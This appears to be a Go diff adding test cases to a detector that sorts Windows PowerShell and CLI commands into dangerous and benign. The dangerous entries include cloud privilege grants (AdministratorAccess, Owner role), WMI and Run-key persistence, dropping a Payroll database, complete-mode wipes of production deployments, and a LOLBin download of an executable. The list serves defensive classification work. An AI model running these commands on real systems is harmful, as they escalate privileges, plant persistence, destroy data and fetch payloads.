@@ -319,3 +319,38 @@ func init() {
 		},
 	)
 }
+
+func init() {
+	winClasses = append(winClasses,
+		winClass{name: "cloud rights, app credentials and complete deployments from PowerShell",
+			dangerous: []winLine{
+				ps(`Register-IAMUserPolicy -UserName build -PolicyArn arn:aws:iam::aws:policy/AdministratorAccess`),
+				ps(`Register-IAMRolePolicy -RoleName ci -PolicyArn arn:aws:iam::aws:policy/IAMFullAccess`),
+				ps(`New-MgApplicationPassword -ApplicationId 00000000-0000-0000-0000-000000000000 -PasswordCredential @{DisplayName='x'}`),
+				ps(`New-AzRoleAssignment -SignInName x@example.com -RoleDefinitionName Owner -Scope /subscriptions/0`),
+				ps(`New-AzResourceGroupDeployment -ResourceGroupName prod -TemplateFile empty.json -Mode Complete -Force`),
+				cmdl(`az deployment group create -g prod --template-file main.bicep --mode Complete`),
+			},
+			benign: []winLine{
+				ps(`Register-IAMUserPolicy -UserName build -PolicyArn arn:aws:iam::aws:policy/ReadOnlyAccess`),
+				ps(`New-AzResourceGroupDeployment -ResourceGroupName dev -TemplateFile main.json -Mode Incremental`),
+				ps(`New-AzResourceGroupDeployment -ResourceGroupName prod -TemplateFile main.json -Mode Complete -WhatIf`),
+				cmdl(`az deployment group what-if -g prod --template-file main.bicep --mode Complete`),
+				ps(`Get-MgApplication -Top 5`),
+			},
+		},
+		winClass{name: "policies, WMI subscriptions, SMO and picture downloaders",
+			dangerous: []winLine{
+				ps(`Set-GPRegistryValue -Name x -Key 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -ValueName y -Value 'C:\x.exe' -Type String`),
+				ps(`Set-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property @{Filter=[ref]$f; Consumer=[ref]$c}`),
+				ps(`$s=New-Object Microsoft.SqlServer.Management.Smo.Server('sql01.example.com'); $s.KillDatabase('Payroll')`),
+				cmdl(`cmd /c desktopimgdownldr.exe /lockscreenurl:https://example.com/x.exe /eventName:x`),
+			},
+			benign: []winLine{
+				ps(`Set-GPRegistryValue -Name Dev -Key 'HKCU\Software\Acme' -ValueName Theme -Value dark -Type String`),
+				ps(`Get-CimInstance -Namespace root/subscription -ClassName __EventFilter`),
+				ps(`$s=New-Object Microsoft.SqlServer.Management.Smo.Server('(localdb)\MSSQLLocalDB'); $s.KillDatabase('Acme_Test')`),
+			},
+		},
+	)
+}
